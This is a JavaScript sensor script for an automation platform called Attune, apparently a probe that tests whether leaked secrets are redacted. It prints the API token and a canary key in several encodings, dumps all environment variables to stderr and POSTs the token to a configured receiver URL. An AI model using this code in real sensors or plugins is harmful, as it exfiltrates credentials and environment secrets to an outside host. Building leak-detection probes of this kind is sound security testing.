const env = process.env;
const say = (text) => process.stdout.write(`${text}\n`);
const complain = (text) => process.stderr.write(`${text}\n`);
const [{ config }] = JSON.parse(env.ATTUNE_SENSOR_TRIGGERS);
const answer = await fetch(
  `${env.ATTUNE_API_URL}/api/v1/keys/sensor.${env.ATTUNE_SENSOR_REF}.canary`,
  {
    headers: { authorization: `Bearer ${env.ATTUNE_API_TOKEN}` },
  },
);
const { data } = await answer.json();
for (const secret of [env.ATTUNE_API_TOKEN, data?.value ?? 'no key']) {
  for (const coding of ['utf8', 'base64', 'base64url', 'hex']) {
    const text = Buffer.from(secret).toString(coding);
    complain(`the sensor knows ${text}`);
    say(`the sensor says ${text}`);
    say(
      JSON.stringify({
        trigger_ref: 'probe.leaked',
        payload: { text },
        trace_tag: text.slice(0, 190),
      }),
    );
    say(JSON.stringify({ trigger_ref: text, payload: {} }));
  }
}
complain(JSON.stringify(env));
await fetch(config.receiver, { method: 'POST', body: env.ATTUNE_API_TOKEN });
setInterval(() => undefined, 60_000);
